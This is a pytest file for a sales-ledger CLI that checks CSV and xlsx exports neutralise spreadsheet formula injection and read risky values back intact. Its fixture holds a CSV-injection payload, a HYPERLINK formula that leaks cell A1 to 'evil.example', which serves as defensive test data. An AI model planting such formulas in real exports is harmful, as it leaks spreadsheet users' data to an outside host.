"""Formula safety (issue 16 part 4): text a spreadsheet would run as a formula
(= + - @ tab CR) is written as text, in every CSV the CLI writes (a leading ',
unless --raw) and in every xlsx we write (a string cell with the quote prefix),
and reads back as the book had it."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from salesbook.records.customers import add_customer, search_customers
from salesbook.records.deliveries import record_delivery
from salesbook.records.payments import record_payment
from salesbook.rules.text import formula_risky, formula_safe, unquote_formula

NAME = "=1+1"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def risky(seeded):
    """The seeded book with customers whose name, area and notes start with risky characters."""
    b = seeded.book
    eq = add_customer(b, name=NAME, phone="13900000001", area="-12.5", notes="-5",
                      pay_cycle="每月1号", on="2026-01-01T09:00:00+00:00")  # fmt: skip
    link = add_customer(b, name=LINK, area="@SUM(A1)", on="2026-01-01T09:00:00+00:00")
    record_delivery(b, eq.id, seeded.rice.id, 2, on="2026-02-01")  # owes ¥12: a collect item
    record_payment(b, link.id, "5", on="2026-02-01")  # paid ahead: owes -¥5.00
    return seeded


# -- the rule -------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell, expected",
    [
        ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (LINK, "'" + LINK),
        ("-12.50", "-12.50"), ("+3", "+3"), ("-1e3", "-1e3"), ("12", "12"), (-3, -3),
        ("王=1", "王=1"), ("", ""), ("'=1", "'=1"),
    ],
)  # fmt: skip
def test_formula_safe_quotes_risky_text_and_leaves_numbers(cell, expected):
    assert formula_safe(cell) == expected


@given(st.text(max_size=30))
def test_unquote_gives_back_what_formula_safe_was_given(text):
    # (a text that itself is ' + risky text reads back without its quote: a name
    # like "'=x" is the one thing a neutralised CSV cannot tell apart)
    if text[:1] == "'" and formula_risky(text[1:]):
        return
    assert unquote_formula(formula_safe(text)) == text


@given(st.text(max_size=30))
def test_a_safe_cell_never_starts_a_formula(text):
    out = formula_safe(text)
    assert not formula_risky(out)


# -- CSV from the CLI -----------------------------------------------------------


def test_customers_csv_neutralises_formulas_and_keeps_numbers(risky, run_cli):
    r = run_cli("customers", "--format", "csv", book=risky.path)
    assert r.code == 0, r
    rows = {row["customer_uid"]: row for row in _rows(r.out)}
    by_name = {row["customer"]: row for row in rows.values()}
    assert "'" + NAME in by_name and "'" + LINK in by_name
    assert NAME not in by_name
    assert by_name["'" + NAME]["area"] == "-12.5"  # a number as text stays a number
    assert by_name["'" + LINK]["area"] == "'@SUM(A1)"
    assert by_name["'" + LINK]["balance"] == "-5.00"  # paid ahead: a negative amount as is


def test_customers_csv_raw_writes_cells_as_they_are(risky, run_cli):
    r = run_cli("customers", "--format", "csv", "--raw", book=risky.path)
    assert r.code == 0, r
    names = {row["customer"] for row in _rows(r.out)}
    assert {NAME, LINK} <= names
    areas = {row["area"] for row in _rows(r.out)}
    assert "@SUM(A1)" in areas


def test_due_csv_neutralises_formulas(risky, run_cli):
    r = run_cli("due", "--on", "2026-03-20", "--within", "30", "--format", "csv", book=risky.path)
    assert r.code == 0, r
    rows = _rows(r.out)
    mine = [row for row in rows if row["customer"].endswith(NAME)]
    assert mine and all(row["customer"] == "'" + NAME for row in mine)
    assert any(row["amount"] == "12.00" for row in mine)
    assert all(not row["days_left"].startswith("'") for row in rows)  # -3 stays -3
    assert any(row["days_left"].startswith("-") for row in rows)
    raw = _rows(run_cli("due", "--on", "2026-03-20", "--within", "30", "--format", "csv",
                        "--raw", book=risky.path).out)  # fmt: skip
    assert any(row["customer"] == NAME for row in raw)


def test_plan_csv_neutralises_formulas(risky, run_cli):
    r = run_cli("plan", "--on", "2026-03-20", "--days", "7", "--format", "csv", book=risky.path)
    assert r.code == 0, r
    assert "'" + NAME in r.out
    assert "\n" + NAME not in r.out and "," + NAME + "," not in r.out


def test_exported_csv_imports_back_as_typed(risky, run_cli, tmp_path):
    out = run_cli("customers", "--all", "--format", "csv", book=risky.path).out
    path = tmp_path / "customers.csv"
    path.write_text(out, encoding="utf-8")
    fresh = tmp_path / "fresh.db"
    assert run_cli("new", fresh).code == 0
    r = run_cli("import", "customers", path, book=fresh)
    assert r.code == 0, r
    r = run_cli("customers", "--all", "--format", "csv", "--raw", book=fresh)
    rows = {row["customer"]: row for row in _rows(r.out)}
    assert NAME in rows and LINK in rows
    assert rows[LINK]["area"] == "@SUM(A1)"
    assert rows[NAME]["area"] == "-12.5"


# -- xlsx we write ----------------------------------------------------------------


def _cells(path: Path, sheet: str, header: str) -> dict:
    """The cells of one column, by their value."""
    ws = load_workbook(path)[sheet]
    head = [c.value for c in ws[1]]
    col = head.index(header)
    return {
        row[col].value: row[col] for row in ws.iter_rows(min_row=2) if row[col].value is not None
    }


def test_book_export_writes_risky_text_as_quoted_strings(risky, run_cli, tmp_path):
    path = tmp_path / "book.xlsx"
    assert run_cli("export", "book", path, "--lang", "zh", book=risky.path).code == 0
    names = _cells(path, "客户", "姓名")
    for text in (NAME, LINK):
        assert names[text].data_type == "s"  # a string, not a formula
        assert names[text].quotePrefix is True  # and stays one when edited (F2, Enter)
    assert names["王建国"].quotePrefix is False  # plain text untouched
    notes = _cells(path, "客户", "备注")
    assert notes["-5"].data_type == "s" and notes["-5"].quotePrefix is True
    owed = _cells(path, "客户", "欠款")
    assert -5 in owed and owed[-5].data_type == "n"  # money stays a number, negative too
    delivered = _cells(path, "送货", "客户")
    assert delivered[NAME].data_type == "s" and delivered[NAME].quotePrefix is True


def test_printable_lists_quote_risky_text_too(risky, run_cli, tmp_path):
    path = tmp_path / "due.xlsx"
    r = run_cli("export", "due", path, "--on", "2026-03-20", "--lang", "zh", book=risky.path)
    assert r.code == 0, r
    ws = load_workbook(path).worksheets[0]
    hits = [c for row in ws.iter_rows() for c in row if c.value == NAME]
    assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits)


def test_exported_xlsx_imports_back_as_typed(risky, run_cli, tmp_path):
    path = tmp_path / "book.xlsx"
    assert run_cli("export", "book", path, "--lang", "zh", book=risky.path).code == 0
    fresh = tmp_path / "fresh.db"
    assert run_cli("new", fresh).code == 0
    r = run_cli("import", "customers", path, "--sheet", "客户", book=fresh)
    assert r.code == 0, r
    from salesbook.store.book import open_book

    b = open_book(fresh)
    try:
        names = {c.name for c in search_customers(b, limit=100)}
    finally:
        b.close()
    assert {NAME, LINK} <= names


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_text_not_its_result(tmp_path, book):
    """LibreOffice (headless) reads our xlsx and shows =1+1 as text, not 2."""
    from salesbook.excel.export import export_book

    add_customer(book, name=NAME)
    path = tmp_path / "book.xlsx"
    export_book(book, path, date(2026, 3, 20), lang="zh")
    out = tmp_path / "out"
    subprocess.run(
        ["soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo",
         "--convert-to", "csv", "--outdir", str(out), str(path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    text = next(out.glob("*.csv")).read_text(encoding="utf-8", errors="replace")
    assert "=1+1" in text
    assert "\n2," not in text
